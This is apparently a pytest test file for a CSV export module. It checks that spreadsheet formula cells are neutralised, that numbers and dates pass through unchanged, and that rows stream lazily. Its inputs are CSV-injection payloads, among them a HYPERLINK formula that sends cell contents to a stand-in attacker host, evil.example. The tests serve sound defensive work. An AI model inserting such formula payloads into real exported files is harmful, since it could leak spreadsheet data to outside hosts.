"""The one CSV writer: formula cells are neutralised, numbers are not, rows stream."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from app.core.csvsafe import BOM, csv_lines, csv_text, neutralise


@pytest.mark.parametrize(
    "dangerous",
    [
        '=HYPERLINK("http://evil.example/?"&A1)',
        "+1+1",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1",
        "\r=1",
        "＝1+1",  # full-width equals sign
        "＋1",
        "－1",
        "＠A1",
    ],
)
def test_formula_cells_are_neutralised(dangerous):
    assert neutralise(dangerous) == "'" + dangerous
    text = csv_text(["note"], [[dangerous]])
    rows = list(csv.reader(io.StringIO(text.removeprefix(BOM))))
    assert rows[1] == ["'" + dangerous]


def test_plain_text_numbers_and_dates_pass_through():
    assert neutralise("大米 10 袋") == "大米 10 袋"
    assert neutralise(-5) == -5 and neutralise(2.5) == 2.5 and neutralise(None) is None
    text = csv_text(["a", "b", "c", "d"], [[-5, "x", date(2026, 1, 2), None]])
    assert text.startswith(BOM)
    assert text.splitlines()[1] == "-5,x,2026-01-02,"


def test_headers_are_neutralised_too():
    assert csv_text(["=cmd"], [], bom=False).strip() == "'=cmd"


def test_rows_stream_one_at_a_time():
    pulled = 0

    def rows():
        nonlocal pulled
        for i in range(1_000_000):
            pulled += 1
            yield [i, "x"]

    lines = csv_lines(["n", "x"], rows())
    assert next(lines) == BOM
    assert next(lines) == "n,x\r\n"
    assert next(lines) == "0,x\r\n"
    assert pulled == 1  # nothing read ahead
